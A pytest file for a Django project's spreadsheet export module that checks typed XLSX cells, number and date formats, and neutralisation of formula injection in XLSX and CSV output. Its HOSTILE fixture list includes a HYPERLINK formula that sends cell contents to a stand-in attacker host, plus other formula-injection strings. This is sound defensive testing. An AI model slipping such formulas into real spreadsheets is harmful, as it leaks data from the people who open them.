"""The one spreadsheet writer: typed cells, and text that never becomes a live formula."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from chidao.core.spreadsheets import (
    PERCENT_FORMAT,
    build_csv,
    build_table_xlsx,
    get_csv_writer,
    get_fraction,
    get_workbook_bytes,
    is_formula_text,
    write_csv_row,
    write_row,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _reopen(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_stored_as_the_same_text_never_a_formula(text):
    sheet = _reopen(build_table_xlsx(title="Danh sách", headers=["Tên"], rows=[[text]]))

    cell = sheet["A4"]
    assert cell.data_type == "s"
    assert cell.value == text


def test_numbers_and_dates_are_typed_with_formats():
    rows = [[1, "Sở Tài chính", 11, Decimal("71.4"), 0.5, date(2026, 3, 31)]]
    sheet = _reopen(
        build_table_xlsx(title="Xếp hạng", headers=["STT", "Đơn vị", "a", "b", "c", "d"], rows=rows)
    )

    count, rate, share, deadline = sheet["C4"], sheet["D4"], sheet["E4"], sheet["F4"]
    assert (count.data_type, count.value, count.number_format) == ("n", 11, "#,##0")
    assert rate.data_type == "n"
    assert rate.value == pytest.approx(71.4)
    assert rate.number_format == "#,##0.0"
    assert share.value == pytest.approx(0.5)
    assert deadline.is_date
    assert deadline.value.date() == date(2026, 3, 31)
    assert deadline.number_format == "DD/MM/YYYY"


def test_translated_labels_and_aware_datetimes_are_written():
    workbook = Workbook()
    sheet = workbook.active
    moment = datetime(2026, 3, 31, 17, 30, tzinfo=UTC)  # 00:30 on 1/4 in Hà Nội
    write_row(sheet, 1, [gettext_lazy("Chưa phân nhóm"), moment])

    reopened = _reopen(get_workbook_bytes(workbook))
    assert reopened["A1"].value == "Chưa phân nhóm"
    assert (reopened["B1"].value.date(), reopened["B1"].value.hour) == (date(2026, 4, 1), 0)


def test_a_chosen_number_format_wins():
    workbook = Workbook()
    write_row(workbook.active, 1, [Decimal("0.714")], number_formats={1: "0.0%"})

    assert _reopen(get_workbook_bytes(workbook))["A1"].number_format == "0.0%"


def test_csv_puts_an_apostrophe_before_formula_text_and_writes_dates_as_offices_do():
    content = build_csv(["Tên", "Ngày"], [[text, date(2026, 1, 2)] for text in HOSTILE])

    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["Tên", "Ngày"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"02/01/2026"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", True), ("Sở Tài chính", False), ("", False), (12, False), ("a=b", False)],
)
def test_is_formula_text(value, expected):
    assert is_formula_text(value) is expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (Decimal("82.5000"), "#,##0.0"),  # four stored places, one needed
        (Decimal("0.75"), "#,##0.00"),
        (Decimal("55.0000"), "#,##0"),
        (Decimal("1E+2"), "#,##0"),
        (Decimal("0.123456"), "#,##0.0000"),  # never more than four places
    ],
)
def test_a_decimal_is_shown_with_the_places_it_carries(value, expected):
    sheet = _reopen(build_table_xlsx(title="Chỉ tiêu", headers=["Giá trị"], rows=[[value]]))

    assert sheet["A4"].data_type == "n"
    assert sheet["A4"].number_format == expected


def test_a_rate_in_percent_is_written_as_the_fraction_a_percent_format_shows():
    workbook = Workbook()
    write_row(
        workbook.active,
        1,
        [get_fraction(Decimal("71.4")), get_fraction(None)],
        number_formats={1: PERCENT_FORMAT},
    )

    cell = _reopen(get_workbook_bytes(workbook))["A1"]
    assert cell.value == pytest.approx(0.714)
    assert cell.number_format == "0.0%"
    assert _reopen(get_workbook_bytes(workbook))["B1"].value is None


def test_a_csv_streamed_into_a_response_starts_with_the_byte_order_mark():
    stream = io.StringIO()
    write_csv_row(get_csv_writer(stream), ["=1+1", 3])

    assert stream.getvalue() == "\ufeff'=1+1,3\r\n"
